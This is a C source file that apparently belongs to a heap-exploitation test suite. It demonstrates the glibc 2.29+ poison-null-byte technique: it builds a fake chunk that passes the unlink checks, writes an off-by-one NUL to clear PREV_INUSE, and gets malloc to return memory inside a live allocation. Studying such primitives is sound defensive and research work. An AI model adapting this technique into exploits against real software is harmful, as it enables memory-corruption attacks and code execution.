/* Technique: poison null byte (off-by-one NUL write into the next
   chunk's size), glibc 2.29+ form with a fake chunk that passes the
   unlink checks.

   Goal: an overlapping allocation -- malloc returns memory inside a
   block the program still holds.

   How: A (0x230 chunk) is followed by B (0x500 chunk, size word 0x501)
   and a guard.  In A's own data the program builds a fake free chunk F
   (size 0x220, fd = bk = F, so the "fd->bk == F && bk->fd == F" unlink
   check holds) and writes B's prev_size (the last word of A's data) as
   0x220.  The single overflowing byte is a NUL written one past A's
   data: it clears PREV_INUSE in B's size.  free (B) then consolidates
   backward with F, putting a 0x720 free chunk that starts inside A into
   the unsorted bin, and a later malloc is served from inside the live
   A.  */
#include "attack.h"

int
main (void)
{
  attack_init ("poison_null_byte: off-by-one NUL clears PREV_INUSE, backward consolidation into a live chunk");
  char *a = malloc (0x228);	/* chunk 0x230: A's last 8 bytes are B's prev_size */
  char *b = malloc (0x4f8);	/* chunk 0x500: size word 0x501 */
  char *guard = malloc (0x18);
  say ("A %p B %p guard %p", a, b, guard);

  /* Fake chunk F at a: prev_size, size, fd, bk.  */
  size_t *f = (size_t *) a;
  f[0] = 0;
  f[1] = 0x220;
  f[2] = (size_t) f;
  f[3] = (size_t) f;
  /* B's prev_size, still inside A's data: distance from F to B.  */
  *(size_t *) (a + 0x220) = 0x220;
  /* The bug: a NUL one byte past the end of A.  */
  a[0x228] = 0;

  free (b);
  char *c = malloc (0x100);
  say ("malloc (0x100) = %p", c);
  if (c && overlaps (c, 0x100, a, 0x228)
      && aliases ((unsigned char *) c, (unsigned char *) a + (c - a)))
    reached ("malloc returned %p inside the live A [%p, +0x228)", c, a);
  no_effect ("malloc returned %p, outside A [%p, +0x228)", c, a);
}
